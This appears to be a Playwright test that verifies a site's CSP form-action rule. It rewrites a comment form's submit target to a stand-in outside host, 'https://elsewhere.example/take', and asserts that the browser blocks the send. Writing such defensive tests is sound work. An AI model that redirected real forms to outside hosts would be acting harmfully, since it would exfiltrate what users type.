import { expect } from 'playwright/test';
import { commentsPath } from '@/lib/urls';
import type { Visit } from './visit';

/** The policy keeps what a reader types on the site, even where something in the page names another place for it. */
export async function tryToSendElsewhere({ page, url, slug }: Visit): Promise<void> {
  await page.goto(url + commentsPath(slug));
  await page.getByLabel('Name').fill('Grace');
  await page.locator('textarea').fill('For this site alone.');
  const send = page.getByRole('button', { name: 'Send' });
  await send.evaluate((button: HTMLButtonElement) => {
    button.formAction = 'https://elsewhere.example/take';
  });
  const asked: string[] = [];
  const note = (request: { url(): string }) => asked.push(request.url());
  page.on('request', note);
  const refused = page.waitForEvent('console', (message) => /form-action 'self'/.test(message.text()));
  // There is no navigation to wait for.
  await send.click({ noWaitAfter: true });
  await refused;
  page.off('request', note);
  expect(asked.filter((address) => address.includes('elsewhere.example'))).toEqual([]);
  // A locator would wait for the navigation, too.
  expect(await page.evaluate(() => document.querySelector('textarea')?.value)).toBe('For this site alone.');
}
